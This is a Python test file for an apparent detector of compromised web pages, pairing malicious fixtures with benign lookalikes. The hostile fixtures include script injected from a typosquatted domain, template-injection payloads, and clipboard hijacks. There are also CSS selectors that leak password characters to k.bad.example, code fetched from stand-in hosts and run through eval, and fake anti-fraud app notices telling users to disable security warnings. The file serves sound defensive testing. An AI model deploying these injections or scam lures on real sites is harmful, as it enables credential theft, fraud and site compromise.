"""Relatives of what outsiders did: names that look alike, drawings, templates, clipboards, apps, presses, sheets."""

from base64 import b64encode

from tests.each import each
from tests.pages.test_carried_relatives import head
from tests.pages.test_relatives import assert_not_accused, assert_told, put, script


def picture(text: str) -> str:
    """The page with a drawing of a text in its own address."""
    drawing = f"<svg xmlns='http://www.w3.org/2000/svg'><text x='1' y='9'>{text}</text></svg>"
    return put(f"<img src='data:image/svg+xml;base64,{b64encode(drawing.encode()).decode()}'>")


COUNTERS = {
    "two letters for one": script(
        "var s=document.createElement('script');s.src='https://hm.baiclu.com/hm.js?6f0c';document.body.append(s)"
    ),
    "of a file": put("<script src='https://hm.baiclu.com/hm.js'></script>"),
    "another pair": put("<script src='//s.urneng.com/z.js'></script>"),
}
DRAWN = {
    "a house of games": picture("金沙娱乐城 注册送58元"),
    "numbers of a lottery": picture("六合彩 一肖一码 百家乐"),
    "plainly written": put("<img src='data:image/svg+xml,<svg><text>澳门百家乐 老虎机 注册送88</text></svg>'>"),
}
TEMPLATES = {
    "a moustache": put("<span>{{_c.constructor(\"document.body.append('x')\")()}}</span>"),
    "the first framework": put("<b>{{constructor.constructor('alert(1)')()}}</b>"),
    "an attribute": put("<i ng-init=\"constructor.constructor('alert(1)')()\">.</i>"),
}
COPIED = {
    "a code for a purse": put(
        "<textarea id=z readonly>打开支付宝首页搜“577820416”立即领红包</textarea>"
        "<script>document.addEventListener('click',function(){z.select();document.execCommand('copy')})</script>"
    ),
    "of a field": put(
        "<input id=q value='复制口令打开淘宝领券'>"
        "<script>document.onclick=function(){q.select();document.execCommand('copy')}</script>"
    ),
}
APPS = {
    "a shop in a frame": script(
        "var f=document.createElement('iframe');f.src='tbopen://m.taobao.com/x?a=1';document.body.appendChild(f)"
    ),
    "another shop": script(
        "var f=document.createElement('iframe');f.src='openapp.jdmobile://virtual?p=1';document.body.append(f)"
    ),
}
PRESSED = {
    "an attribute": script(
        """$(".nav a").attr("onmousedown","if(Math.random()<0.2)this.href='http://t.bad.example/g.php?u='+1")"""
    ),
    "without a library": script("""document.links[0].setAttribute("onclick","this.href='http://t.bad.example/'")"""),
}
SHEETS = {
    "by its id": head("<style>#txtPwd[value$='a']{background-image:url(//k.bad.example/a)}</style>"),
    "by its class": head("<style>.pw[value^='1']{background:url('http://k.bad.example/1')}</style>"),
}
AWAITED = {
    "of a chain": script(
        "(async()=>{const r=await fetch('https://rpc.bad.example/',{method:'POST'});"
        "const h=(await r.json()).result;(0,eval)(atob(h))})()"
    ),
    "as a function": script(
        "(async()=>{const t=await (await fetch('https://c.bad.example/p')).text();new Function(t)()})()"
    ),
}
APP = "<div><b>国家反诈中心 APP（强制安装版）</b><p>{}</p><a href='https://apk.bad.example/f_3.9.{}'>安卓下载</a></div>"
FALSE_APPS = {
    "warnings off": put(
        APP.format("未安装的居民将冻结银行卡，请下载并开启“屏幕共享”和“无障碍”权限，关闭系统安全提示。", "apk")
    ),
    "a profile": put(APP.format("苹果手机下载后请在设置里信任企业描述文件。", "mobileconfig")),
    "of unknown origin": put(APP.format("下载时请允许未知来源，忽略风险提示，完成安装。", "apk")),
}
HONEST = {
    "the counter itself": script(
        "var s=document.createElement('script');s.src='https://hm.baidu.com/hm.js?6f0c';document.body.append(s)"
    ),
    "a slogan drawn": picture("全面推进乡村振兴 云溪县人民政府宣"),
    "a template's value": put('<a v-for="w in words" :href="\'/search?q=\'+w.name">{{ w.name }}</a>'),
    "a class of a script": script("class A{constructor(x){this.x=x}} new A(1)"),
    "the source of what is copied": script(
        "document.addEventListener('copy',function(e){e.clipboardData.setData('text/plain',getSelection()+'（来源：本站）')})"
    ),
    "a button that copies an address": put(
        "<input id=u value='http://www.x.gov.cn/zt/'>"
        "<button onclick=\"u.select();document.execCommand('copy')\">复制</button>"
    ),
    "a film": script("var v=document.getElementById('v');v.src='rtmp://live.x.gov.cn/tv/1'"),
    "a question before one leaves": script(
        """$(".links a").attr("onclick","return confirm('您访问的链接即将离开本站，是否继续？')")"""
    ),
    "signs of kinds of documents": head("<style>a[href$='.pdf']{background:url(/images/pdf.gif) no-repeat}</style>"),
    "a field that is filled": head("<style>input[value='']{background:url(/images/q.gif)}</style>"),
    "the weather": script(
        "(async()=>{const r=await fetch('/api/weather');const h=(await r.json()).result;w.textContent=h.t})()"
    ),
    "a warning": put(
        "<div><b>国家反诈中心 APP</b><p>请在应用商店下载安装。公安机关不会要求您开启“屏幕共享”，"
        "不会通过链接发送安装包，凡称不安装即冻结银行卡的都是诈骗。</p></div>"
    ),
    "the office's own app": put(
        "<div><p>无障碍版客户端上线，手机扫码或点击下载安装。</p><a href='/app/x.apk'>安卓版</a></div>"
    ),
}


PROXIES = COUNTERS | DRAWN | TEMPLATES | {f"copied: {name}": page for name, page in COPIED.items()} | APPS
WAITING = {f"pressed: {name}": page for name, page in PRESSED.items()} | SHEETS | AWAITED | FALSE_APPS


@each("page", PROXIES.values(), ids=list(PROXIES))
def test_what_is_done_through_another_is_told(page: str) -> None:
    assert_told(page)


@each("page", WAITING.values(), ids=list(WAITING))
def test_what_waits_for_its_visitor_is_told(page: str) -> None:
    assert_told(page)


@each("page", HONEST.values(), ids=list(HONEST))
def test_an_office_that_does_nearly_the_same_is_not_accused(page: str) -> None:
    assert_not_accused(page)
